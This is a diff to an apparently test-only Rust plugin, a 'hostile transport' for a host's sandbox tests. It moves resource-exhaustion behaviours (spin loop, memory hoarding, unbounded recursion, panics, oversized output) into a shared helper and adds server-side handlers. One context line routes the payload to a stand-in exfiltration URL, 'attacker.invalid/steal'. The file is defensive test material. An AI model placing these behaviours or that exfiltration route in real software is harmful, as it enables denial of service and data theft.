@@ -1,5 +1,6 @@
-//! A transport that misbehaves on purpose, for the host's sandbox tests. The payload picks the
-//! misbehavior; any other payload is echoed like a well-behaved transport.
+//! A transport that misbehaves on purpose, for the host's sandbox tests. The payload (or, on the
+//! server side, the arriving body or the answer payload) picks the misbehavior; anything else is
+//! echoed like a well-behaved transport.
 #![no_std]
 
 extern crate alloc;
@@ -12,6 +13,7 @@ use licet_plugin_sdk as _;
 
 wit_bindgen::generate!({ world: "transport", path: "../../wit" });
 
+use exports::licet::plugin::accept::{Answer, Arrival};
 use exports::licet::plugin::wire::{Destination, Guest, WireReply, WireRequest};
 use licet::plugin::types::PluginError;
 
@@ -64,21 +66,28 @@ fn descend(depth: u64) -> u64 {
     descend(frame[3].wrapping_add(1)).wrapping_add(frame[7])
 }
 
+/// The misbehavior `bytes` names, or `bytes` echoed.
+fn misbehave(bytes: Vec<u8>) -> Vec<u8> {
+    match bytes.as_slice() {
+        b"loop" => spin(),
+        b"churn" => churn(),
+        b"memory" => {
+            let hoard = hoard();
+            vec![u8::try_from(hoard.len() % 256).unwrap_or(0)]
+        }
+        b"recursion" => descend(0).to_le_bytes().to_vec(),
+        b"panic" => panic!("hostile plugin panics"),
+        b"huge" => vec![7u8; 8 << 20],
+        _ => bytes,
+    }
+}
+
 impl Guest for HostileTransport {
     fn encode(
         _config: Vec<(String, String)>,
         payload: Vec<u8>,
     ) -> Result<WireRequest, PluginError> {
         let body = match payload.as_slice() {
-            b"loop" => spin(),
-            b"churn" => churn(),
-            b"memory" => {
-                let hoard = hoard();
-                vec![u8::try_from(hoard.len() % 256).unwrap_or(0)]
-            }
-            b"recursion" => descend(0).to_le_bytes().to_vec(),
-            b"panic" => panic!("hostile plugin panics"),
-            b"huge" => vec![7u8; 8 << 20],
             b"evil-url" => {
                 return Ok(WireRequest {
                     destination: Destination::HttpPost("http://attacker.invalid/steal".to_string()),
@@ -86,7 +95,14 @@ impl Guest for HostileTransport {
                     body: payload,
                 })
             }
-            _ => payload,
+            b"text" => {
+                return Ok(WireRequest {
+                    destination: Destination::Text("activation request".to_string()),
+                    content_type: "text/plain".to_string(),
+                    body: payload,
+                })
+            }
+            _ => misbehave(payload),
         };
         Ok(WireRequest {
             destination: Destination::File("echo".to_string()),
@@ -97,6 +113,31 @@ impl Guest for HostileTransport {
 
     fn decode(_config: Vec<(String, String)>, reply: WireReply) -> Result<Vec<u8>, PluginError> {
         Ok(reply.body)
+    }
+}
+
+impl exports::licet::plugin::accept::Guest for HostileTransport {
+    fn decode_request(
+        _config: Vec<(String, String)>,
+        arrival: Arrival,
+    ) -> Result<Vec<u8>, PluginError> {
+        if arrival.body == b"refuse" {
+            return Err(PluginError {
+                code: "bad-request".to_string(),
+                message: "this request is refused".to_string(),
+            });
+        }
+        Ok(misbehave(arrival.body))
+    }
+
+    fn encode_answer(
+        _config: Vec<(String, String)>,
+        payload: Vec<u8>,
+    ) -> Result<Answer, PluginError> {
+        Ok(Answer {
+            content_type: "application/octet-stream".to_string(),
+            body: misbehave(payload),
+        })
     }
 }
 
